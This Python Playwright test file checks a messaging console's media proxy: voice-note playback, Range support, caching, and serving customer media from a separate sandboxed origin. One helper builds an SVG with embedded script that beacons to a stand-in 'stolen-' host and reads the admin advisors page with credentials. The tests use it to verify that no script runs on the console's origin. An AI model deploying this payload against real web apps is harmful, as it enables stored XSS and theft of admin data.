"""A customer's voice note in the console: a player whose audio the server fetches from Twilio with
its credentials (the browser cannot), and the transcript beside it."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator

import httpx
import pytest
from playwright.sync_api import Page, expect

from bot.settings import Settings
from tests.bot.web.console.conftest import Console, served_console
from tests.conftest import ACCOUNT_SID, VOICE_NOTE, Db, settle, wait_for
from tests.fakes import FakeMediaHost, FakeOpenAI, FakeTwilio
from tests.live import free_port

ANA, CUSTOMER = "+14155238886", "+573001112233"


@pytest.fixture
def console(
    db: Db,
    make_settings: Callable[..., Settings],
    fake_twilio: FakeTwilio,
    twilio_media: dict[str, str],
    database_url: str,
) -> Iterator[Console]:
    with served_console(db, make_settings, fake_twilio, database_url, **twilio_media) as served:
        yield served


def test_a_voice_note_plays_from_the_console_with_its_transcript(
    console: Console, page: Page, fake_openai: FakeOpenAI
) -> None:
    ana = console.db.add_advisor("Ana", ANA)
    media_url = f"{console.twilio.url}/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/MM{'2' * 32}/Media/ME1"
    console.inbound(
        ANA,
        CUSTOMER,
        "",
        NumMedia="1",
        MessageType="audio",
        MediaContentType0="audio/ogg",
        MediaUrl0=media_url,
    )
    settle(console.db)
    console.sign_in(page, ana)
    page.get_by_test_id("conversation-row").first.click()
    voice = page.locator("[data-testid=message][data-author=customer]")
    expect(voice.locator(".transcript")).to_contain_text(fake_openai.transcript)
    source = voice.locator("audio").get_attribute("src")
    assert source and source.startswith(f"{console.base}/console/c/")
    cookies = {c["name"]: c["value"] for c in page.context.cookies()}
    played = httpx.get(source, cookies=cookies, timeout=10)
    assert played.status_code == 200 and played.content == VOICE_NOTE
    assert (
        played.headers["content-type"] == "audio/ogg"
        and played.headers["x-content-type-options"] == "nosniff"
    )
    assert httpx.get(source, timeout=10, follow_redirects=False).status_code == 303  # not without a session
    other = console.db.add_advisor("Bruno", "+14155238887", phone="+573009990002")
    page.context.clear_cookies()
    console.sign_in(page, other)
    cookies = {c["name"]: c["value"] for c in page.context.cookies()}
    assert httpx.get(source, cookies=cookies, timeout=10).status_code == 404  # not another advisor's


def _attack_svg(beacon: str) -> bytes:
    """An SVG whose script reports that it ran, and what it could read of the console."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>
fetch("{beacon}ran", {{mode: "no-cors"}});
fetch(location.origin + "/console/admin/advisors", {{credentials: "include"}})
  .then(r => r.text()).then(t => fetch("{beacon}read?n=" + t.length, {{mode: "no-cors"}}));
</script><rect width="10" height="10"/></svg>""".encode()


def test_a_customers_svg_never_runs_script_on_the_consoles_origin(
    console: Console, page: Page, media_host: FakeMediaHost
) -> None:
    """Issue 23, finding 1: the SVG that minted an admin token, clicked and opened, runs nothing."""
    ana = console.db.add_advisor("Ana", ANA)
    beacon = media_host.url + "stolen-"
    media_host.files["MEsvg"] = (_attack_svg(beacon), "image/svg+xml")

    def ran() -> list[str]:
        return [r["path"] or "" for r in media_host.requests if "stolen-" in (r["path"] or "")]

    # Control: opened on the sender's own origin the script does run in this Chromium.
    page.goto(media_host.url + "MEsvg")
    wait_for(lambda: len(ran()) == 2, timeout=10, what="the SVG's script to run on its own origin")
    media_host.requests.clear()

    announced = {
        "+573001110001": "application/octet-stream",  # drawn as a link: one click opened it
        "+573001110002": "image/svg+xml",  # drawn as a picture until now
        "+573001110003": "image/png",  # a picture whose server says SVG
        "+573001110004": "text/html",
    }
    for customer, declared in announced.items():
        url = f"{console.twilio.url}/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/MM{customer[1:]}/Media/MEsvg"
        answer = console.inbound(ANA, customer, "", NumMedia="1", MediaContentType0=declared, MediaUrl0=url)
        assert answer.status_code == 200
    settle(console.db)
    tokens_before = console.db.query("SELECT count(*) AS n FROM advisor_tokens")[0]["n"]
    console.sign_in_as_admin(page)
    cookies = {c["name"]: c["value"] for c in page.context.cookies()}

    for customer, declared in announced.items():
        row = console.db.query(
            "SELECT c.conversation_id FROM chat_history c WHERE c.advisor_id = %s AND c.phone_number = %s",
            (ana, customer),
        )[0]
        page.goto(f"{console.base}/console/c/{row['conversation_id']}")
        bubble = page.locator("[data-testid=message][data-author=customer]")
        if declared == "image/png":
            source = bubble.locator("img").get_attribute("src")
            assert source
            page.goto(source)  # "open image in new tab"
        else:
            link = bubble.get_by_test_id("media-file")
            assert link.get_attribute("download") is not None
            source = link.get_attribute("href")
            assert source
            with page.expect_download() as download:
                link.click()
            assert download.value.url == source
        served = httpx.get(source, cookies=cookies, timeout=10)
        assert served.status_code == 200 and served.content.startswith(b"<svg")
        assert served.headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert served.headers["x-content-type-options"] == "nosniff"
        if declared == "image/png":
            assert served.headers["content-type"] == "image/png"
            assert served.headers["content-disposition"] == "inline"
        else:
            assert served.headers["content-type"] == "application/octet-stream"
            assert served.headers["content-disposition"].startswith("attachment")
        refused = httpx.get(source, timeout=10, follow_redirects=False)  # no session: to sign-in
        assert refused.status_code == 303
        assert refused.headers["content-security-policy"] == "default-src 'none'; sandbox"
        missing = httpx.get(source.rsplit("/", 1)[0] + "/7", cookies=cookies, timeout=10)
        assert missing.status_code == 404 and missing.headers["x-content-type-options"] == "nosniff"

    time.sleep(1.5)  # the control above beaconed within milliseconds
    assert ran() == []
    assert console.db.query("SELECT count(*) AS n FROM advisor_tokens")[0]["n"] == tokens_before


def test_the_media_proxy_streams_from_a_bounded_cache_and_honours_range(
    console: Console, page: Page, media_host: FakeMediaHost
) -> None:
    """Issue 23, finding 18: a file is fetched from Twilio once, served in ranges, never held whole."""
    ana = console.db.add_advisor("Ana", ANA)
    video = bytes(range(256)) * 4096  # 1 MiB
    media_host.files["MEvideo"] = (video, "video/mp4")
    url = f"{console.twilio.url}/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/MM{'3' * 32}/Media/MEvideo"
    console.inbound(ANA, CUSTOMER, "", NumMedia="1", MediaContentType0="video/mp4", MediaUrl0=url)
    settle(console.db)
    console.sign_in(page, ana)
    page.get_by_test_id("conversation-row").first.click()
    source = page.locator("[data-testid=message][data-author=customer] video").get_attribute("src")
    assert source
    cookies = {c["name"]: c["value"] for c in page.context.cookies()}
    fetched_before = sum(1 for r in media_host.requests if "MEvideo" in (r["path"] or ""))
    whole = httpx.get(source, cookies=cookies, timeout=10)
    assert whole.status_code == 200 and whole.content == video
    assert whole.headers["content-type"] == "video/mp4" and whole.headers["accept-ranges"] == "bytes"
    part = httpx.get(source, cookies=cookies, headers={"Range": "bytes=1000-1999"}, timeout=10)
    assert part.status_code == 206 and part.content == video[1000:2000]
    assert part.headers["content-range"] == f"bytes 1000-1999/{len(video)}"
    for _ in range(5):
        assert httpx.get(source, cookies=cookies, timeout=10).content == video
    fetched = sum(1 for r in media_host.requests if "MEvideo" in (r["path"] or "")) - fetched_before
    assert fetched <= 1  # the page's own player may have been the first view


def _png(width: int = 4, height: int = 3) -> bytes:
    """A real (tiny, red) PNG, written byte by byte."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


@pytest.fixture
def split_console(
    db: Db,
    make_settings: Callable[..., Settings],
    fake_twilio: FakeTwilio,
    twilio_media: dict[str, str],
    database_url: str,
) -> Iterator[Console]:
    """The console on 127.0.0.1, its customer media on another origin (localhost) of the same server."""
    port = free_port()
    origin = f"http://localhost:{port}"
    with served_console(
        db, make_settings, fake_twilio, database_url, port=port, console_media_origin=origin, **twilio_media
    ) as served:
        yield served


def test_with_a_media_origin_customer_media_never_opens_on_the_consoles_origin(
    split_console: Console, page: Page, media_host: FakeMediaHost
) -> None:
    """Issue 23, finding 1 (better still): media served from a separate origin by signed links."""
    console = split_console
    ana = console.db.add_advisor("Ana", ANA)
    media_host.files["MEpng"] = (_png(), "image/png")
    media_host.files["MEsvg"] = (_attack_svg(media_host.url + "stolen-"), "image/svg+xml")
    for customer, (media, declared) in {
        "+573001110001": ("MEpng", "image/png"),
        "+573001110002": ("MEsvg", "image/svg+xml"),
    }.items():
        url = (
            f"{console.twilio.url}/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/MM{customer[1:]}/Media/{media}"
        )
        console.inbound(ANA, customer, "", NumMedia="1", MediaContentType0=declared, MediaUrl0=url)
    settle(console.db)
    console.sign_in(page, ana)
    cookies = {c["name"]: c["value"] for c in page.context.cookies()}
    rows = console.db.query("SELECT conversation_id, phone_number FROM chat_history ORDER BY phone_number")
    page.goto(f"{console.base}/console/c/{rows[0]['conversation_id']}")
    picture = page.locator("[data-testid=message][data-author=customer] img")
    source = picture.get_attribute("src")
    assert source and source.startswith(console.base)
    moved = httpx.get(source, cookies=cookies, timeout=10, follow_redirects=False)
    assert moved.status_code == 302
    ticket = moved.headers["location"]
    assert ticket.startswith(console.settings.console_media_origin + "/console/m/")
    served = httpx.get(ticket, timeout=10)  # no cookie: the signed link is the permission
    assert served.status_code == 200 and served.content == _png(), served.text[:300]
    # The page draws it from there. Polled from Python: Playwright's in-page polling evaluates a
    # string, which the console's CSP forbids.
    wait_for(lambda: picture.evaluate("img => img.complete && img.naturalWidth") == 4, what="the picture")
    assert served.headers["content-security-policy"] == "default-src 'none'; sandbox"
    on_console_origin = ticket.replace(console.settings.console_media_origin, console.base)
    assert httpx.get(on_console_origin, timeout=10).status_code == 404  # never on the console's origin
    tampered = ticket[:-1] + ("0" if ticket[-1] != "0" else "1")
    assert httpx.get(tampered, timeout=10).status_code == 404
    other = httpx.get(ticket.replace("/console/m/", "/console/m/x"), timeout=10)
    assert other.status_code == 404
    page.goto(f"{console.base}/console/c/{rows[1]['conversation_id']}")
    link = page.locator("[data-testid=message][data-author=customer]").get_by_test_id("media-file")
    with page.expect_download() as download:
        link.click()
    assert download.value.url.startswith(console.settings.console_media_origin)
    time.sleep(1)
    assert not [r for r in media_host.requests if "stolen-" in (r["path"] or "")]
